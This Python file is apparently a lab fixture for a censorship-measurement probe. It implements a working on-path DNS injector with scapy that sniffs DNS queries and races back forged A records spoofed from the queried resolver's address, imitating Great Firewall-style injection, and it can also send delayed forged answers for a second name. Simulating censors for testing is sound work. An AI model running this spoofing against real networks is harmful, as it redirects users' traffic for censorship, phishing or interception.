"""An on-path DNS injector (scapy), the Great Firewall's way: it watches queries cross the router
and races a forged answer back to the client, spoofed from the address the query went to.

Run inside the ISP namespace: `python -m tests.lab.injector --iface r0 --name dns-injected.lab
--answer 203.0.113.66 --ttl 200`. It stops by itself after `--lifetime` seconds.
"""

from __future__ import annotations

import argparse
import sys
import threading

from probe.forensics.capture import attach_filter

# (code, jt, jf, k) for Ethernet frames: IPv4, UDP, not a fragment, destination port 53.
UDP_DST_PORT_53 = [
    (0x28, 0, 0, 12), (0x15, 0, 8, 0x0800), (0x30, 0, 0, 23), (0x15, 0, 6, 17), (0x28, 0, 0, 20),
    (0x45, 4, 0, 0x1FFF), (0xB1, 0, 0, 14), (0x48, 0, 0, 16), (0x15, 0, 1, 53), (0x06, 0, 0, 0x40000),
    (0x06, 0, 0, 0),
]  # fmt: skip


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--iface", required=True)
    parser.add_argument("--name", required=True, help="inject answers for this name (and names under it)")
    parser.add_argument("--answer", required=True, help="the forged A record")
    parser.add_argument("--ttl", type=int, default=200, help="IP TTL of forged replies (a tell-tale)")
    parser.add_argument("--late-name", help="inject answers for this name too, but only after --late-delay")
    parser.add_argument("--late-delay", type=float, default=0.5, help="seconds: after the target's handshake")
    parser.add_argument("--lifetime", type=float, default=3600)
    args = parser.parse_args()

    from scapy.all import DNS, DNSRR, IP, UDP, conf, send, sniff  # imported late: scapy is slow to load

    suffixes = [args.name.rstrip(".").encode() + b"."]
    late = args.late_name.rstrip(".").encode() + b"." if args.late_name else None
    if late is not None:
        suffixes.append(late)

    def is_target_query(packet) -> bool:  # type: ignore[no-untyped-def]
        if not (packet.haslayer(IP) and packet.haslayer(UDP) and packet.haslayer(DNS)):
            return False
        dns = packet[DNS]
        if packet[UDP].dport != 53 or dns.qr != 0 or dns.qd is None:
            return False
        question = dns.qd[0] if hasattr(dns.qd, "__getitem__") else dns.qd
        return question.qtype == 1 and bytes(question.qname).lower().endswith(tuple(suffixes))

    def inject(packet) -> None:  # type: ignore[no-untyped-def]
        dns = packet[DNS]
        question = dns.qd[0] if hasattr(dns.qd, "__getitem__") else dns.qd
        forged = (
            IP(src=packet[IP].dst, dst=packet[IP].src, ttl=args.ttl)
            / UDP(sport=53, dport=packet[UDP].sport)
            / DNS(
                id=dns.id,
                qr=1,
                rd=1,
                ra=1,
                qd=question,
                an=DNSRR(rrname=question.qname, type="A", ttl=300, rdata=args.answer),
            )
        )
        if late is not None and bytes(question.qname).lower().endswith(late):
            threading.Timer(args.late_delay, send, [forged], {"verbose": False}).start()
        else:
            send(forged, verbose=False)

    def started() -> None:
        print("injector ready", flush=True)

    # The kernel hands the injector DNS queries only (a classic BPF program, as `tcpdump -dd
    # 'ip and udp dst port 53'` writes it: no libpcap needed), so that it keeps up with a busy link.
    listener = conf.L2listen(iface=args.iface)
    attach_filter(listener.ins, UDP_DST_PORT_53)
    sniff(
        opened_socket=listener,
        lfilter=is_target_query,
        prn=inject,
        store=False,
        timeout=args.lifetime,
        started_callback=started,
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
